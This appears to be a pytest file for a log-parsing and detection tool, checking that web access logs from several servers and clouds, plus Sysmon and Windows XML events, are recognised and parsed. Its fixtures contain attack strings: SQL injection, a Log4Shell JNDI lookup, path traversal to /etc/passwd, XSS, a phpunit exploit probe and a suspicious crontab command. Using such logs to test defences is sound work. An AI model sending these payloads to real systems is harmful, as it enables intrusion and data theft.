    assert body.fields["path"] == "/tienda1/publico/autenticar.jsp?modo=entrar&login=bob%27+or+%271%27%3D%271&pwd=x&remember=on&B1=Entrar"
    assert body.fields["request"] == "POST /tienda1/publico/autenticar.jsp HTTP/1.1" and body.fields["body"].startswith("modo=")
    assert events[14].fields["path"] == "/tienda1/index.jsp" and events[14].host is None
    assert [e.format for e in events].count("generic") == 4  # the blank lines


def test_header_shaped_lines_without_a_request_are_not_http():
    lines = ["Date: Mon, 01 Jan 2024", "Subject: weekly report", "From: alice"] * 5
    assert detect_format(lines).name == "generic"


JSON_ACCESS = [  # the same kind of request as five real JSON access-log shapes
    {"time_iso8601": "2024-05-02T10:11:12+00:00", "remote_addr": "45.9.20.11", "status": "200", "body_bytes_sent": "512",
     "request": "GET /item.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1",
     "http_referer": "", "http_user_agent": "sqlmap/1.7"},  # nginx log_format escape=json
    {"ClientHost": "45.9.20.12", "DownstreamStatus": 404, "RequestMethod": "GET", "RequestProtocol": "HTTP/1.1",
     "RequestPath": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "StartUTC": "2024-05-02T10:11:13Z",
     "request_User-Agent": "Mozilla/5.0"},  # Traefik
    {"ts": 1714644673.5, "logger": "http.log.access", "msg": "handled request", "status": 200, "size": 10,
     "request": {"remote_ip": "45.9.20.13", "method": "GET", "host": "shop.example", "uri": "/?x=${jndi:ldap://h/a}",
                 "headers": {"User-Agent": ["curl/8.0"]}}},  # Caddy
    {"timestamp": "2024-05-02T10:11:14Z", "httpRequest": {"requestMethod": "GET", "status": 200, "remoteIp": "45.9.20.14",
     "requestUrl": "https://shop.example/download.php?file=../../../../etc/passwd", "userAgent": "python-requests/2.31"}},  # GCP LB
    {"@timestamp": "2024-05-02T10:11:15Z", "source": {"ip": "45.9.20.15"}, "http": {"request": {"method": "get"},
     "response": {"status_code": 200}}, "url": {"original": "/search?q=<script>x</script>"}},  # ECS
    {"ClientIP": "45.9.20.16", "ClientRequestHost": "shop.example", "ClientRequestMethod": "GET",
     "ClientRequestURI": "/wp-login.php", "EdgeResponseStatus": 403, "EdgeResponseBytes": 1200,
     "ClientRequestUserAgent": "python-requests/2.31", "EdgeStartTimestamp": "2024-05-02T10:11:16Z"},  # Cloudflare
]


def test_json_access_logs_become_access_events():
    lines = [json.dumps(r) for r in JSON_ACCESS]
    events = parse(lines, detect_format(lines).name)
    assert [e.format for e in events] == ["access"] * 6
    assert [(e.fields["src_ip"], e.fields["method"], e.fields["status"]) for e in events] == [
        ("45.9.20.11", "GET", 200), ("45.9.20.12", "GET", 404), ("45.9.20.13", "GET", 200), ("45.9.20.14", "GET", 200),
        ("45.9.20.15", "GET", 200), ("45.9.20.16", "GET", 403)]
    assert events[0].fields["path"].startswith("/item.php?id=1%27") and events[0].fields["user_agent"] == "sqlmap/1.7"
    assert "referrer" not in events[0].fields  # nginx's empty "" is unset
    assert (events[2].host, events[2].fields["user_agent"]) == ("shop.example", "curl/8.0")
    assert (events[3].host, events[3].fields["path"]) == ("shop.example", "/download.php?file=../../../../etc/passwd")
    assert all(e.ts is not None for e in events)


def test_json_that_is_not_an_http_request_stays_json():
    app = {"level": "info", "msg": "job finished", "status": "ok", "duration": 3}
    eve = {"timestamp": "2024-05-02T10:11:14.1+0000", "event_type": "http", "src_ip": "45.9.20.11", "dest_ip": "10.0.0.4",
           "http": {"hostname": "shop", "url": "/", "http_method": "GET", "status": 200}}
    assert [e.format for e in parse([json.dumps(app), json.dumps(eve)], "json")] == ["json", "json"]


def test_cloudfront_tab_separated_w3c_rows_are_access_events():
    header = ("#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
              "cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type")
    row = "\t".join(["2019-12-04", "21:02:32", "LAX1", "392", "45.9.20.11", "GET", "d111.cloudfront.net", "/products.php",
                     "200", "-", "sqlmap/1.7", "id=1%27%20UNION%20SELECT%201--", "-", "Miss"])
    lines = ["#Version: 1.0", header, row]
    assert detect_format(lines).name == "w3c"
    event = parse(lines, "w3c")[2]
    assert event.format == "access" and event.ts.isoformat() == "2019-12-04T21:02:32+00:00"
    assert event.fields.items() >= {"src_ip": "45.9.20.11", "path": "/products.php?id=1%27%20UNION%20SELECT%201--",
                                    "status": 200, "user_agent": "sqlmap/1.7", "vhost": "d111.cloudfront.net"}.items()


AWS_LB = [  # AWS docs' examples: an ALB HTTPS entry (an attack put in its target) and a Classic ELB entry
    'https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 45.9.20.11:2817 10.0.0.1:80 0.086 0.048 '
    '0.037 200 200 0 57 "GET https://www.example.com:443/item?id=1%27%20OR%20%271%27=%271 HTTP/1.1" "sqlmap/1.7" '
    'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/'
    '73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "-" 1 2018-07-02T22:22:48.364000Z '
    '"authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-"',
    '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 '
    '"GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -',
]


def test_aws_load_balancer_logs_become_access_events():
    assert detect_format(AWS_LB).name == "aws_lb"
    alb, elb = parse(AWS_LB, "aws_lb")
    assert (alb.format, alb.host, alb.ts.isoformat()) == ("access", "www.example.com", "2018-07-02T22:23:00.186641+00:00")
    assert alb.fields.items() >= {"src_ip": "45.9.20.11", "method": "GET", "path": "/item?id=1%27%20OR%20%271%27=%271",
                                  "status": 200, "bytes": 57, "user_agent": "sqlmap/1.7"}.items()
    assert (elb.fields["src_ip"], elb.fields["path"], elb.fields["load_balancer"]) == ("192.168.131.39", "/", "my-loadbalancer")


# --- Sysmon for Linux as it writes its events: XML in syslog --------------------------------------

LINUX_SYSMON_1 = (
    '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID>'
    '<Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
    '<TimeCreated SystemTime="2023-04-12T10:11:12.123456000Z"/><EventRecordID>75097</EventRecordID><Correlation/>'
    '<Execution ProcessID="1001" ThreadID="1001"/><Channel>Linux-Sysmon/Operational</Channel>'
    '<Computer>ubuntu-web</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data>'
    '<Data Name="UtcTime">2023-04-12 10:11:12.120</Data><Data Name="ProcessGuid">{7d3c1a2b-0c4e-6436-15b1-6d4dd7550000}'
    '</Data><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/crontab</Data>'
    '<Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data>'
    '<Data Name="Company">-</Data><Data Name="OriginalFileName">-</Data>'
    '<Data Name="CommandLine">crontab /tmp/.c</Data><Data Name="CurrentDirectory">/root</Data>'
    '<Data Name="User">root</Data><Data Name="LogonGuid">{7d3c1a2b-0000-0000-0000-000000000000}</Data>'
    '<Data Name="LogonId">0</Data><Data Name="TerminalSessionId">3</Data><Data Name="IntegrityLevel">no level</Data>'
    '<Data Name="Hashes">-</Data><Data Name="ParentProcessGuid">{7d3c1a2b-0c4e-6436-1551-c2a3c8550000}</Data>'
    '<Data Name="ParentProcessId">4200</Data><Data Name="ParentImage">/usr/bin/bash</Data>'
    '<Data Name="ParentCommandLine">bash</Data><Data Name="ParentUser">root</Data></EventData></Event>')


@pytest.mark.parametrize("line", [
    f"Apr 12 10:11:12 ubuntu-web sysmon: {LINUX_SYSMON_1}",  # /var/log/syslog (RFC 3164)
    f"2023-04-12T10:11:12.124003+00:00 ubuntu-web sysmon: {LINUX_SYSMON_1}",  # rsyslog's ISO file format
    f"<14>1 2023-04-12T10:11:12.124Z ubuntu-web sysmon - - - {LINUX_SYSMON_1}",  # forwarded as RFC 5424
    LINUX_SYSMON_1,  # one event a line, as exported
])
def test_sysmon_for_linux_xml_in_syslog_or_alone_is_a_linux_sysmon_event(line):
    from logwarden.app.detect.logsource import route_of

    fmt = detect_format([line]).name
    (event,) = parse([line], fmt)
    assert event.format == "windows" and event.host == "ubuntu-web" and event.raw == line
    f = event.fields
    assert (f["EventID"], f["Channel"], f["Image"], f["CommandLine"], f["ParentImage"], f["user"]) == (
        1, "Linux-Sysmon/Operational", "/usr/bin/crontab", "crontab /tmp/.c", "/usr/bin/bash", "root")
    assert event.ts == datetime(2023, 4, 12, 10, 11, 12, 123456, timezone.utc)
    route = route_of(event)
    assert "linux" in route.products and "process_creation" in route.categories and "sysmon" in route.services


def test_a_windows_event_rendered_as_xml_with_its_namespace_is_read_too():
    xml = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
           "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID>"
           "<TimeCreated SystemTime='2022-01-05T08:00:01.1234567Z'/><Channel>Security</Channel>"
           "<Computer>DC1.corp.local</Computer></System><EventData><Data Name='TargetUserName'>admin</Data>"
           "<Data Name='IpAddress'>203.0.113.9</Data><Data Name='LogonType'>3</Data></EventData></Event>")
    assert detect_format([xml, xml]).name == "windows"
    (event,) = parse([xml], "windows")
    assert (event.fields["EventID"], event.fields["src_ip"], event.host) == (4625, "203.0.113.9", "DC1.corp.local")


def test_syslog_lines_with_other_xml_or_broken_event_xml_stay_syslog():
    lines = ["Apr 12 10:11:12 ubuntu-web sysmon: <Event><System><EventID>1</Even",  # cut by a line limit
             "Apr 12 10:11:13 ubuntu-web app[12]: <Eventful>day</Eventful>",
             "Apr 12 10:11:14 ubuntu-web app[12]: <Event><!DOCTYPE x><System/></Event>"]
    events = parse(lines, "syslog")
    assert [e.format for e in events] == ["syslog"] * 3
    assert events[0].program == "sysmon"
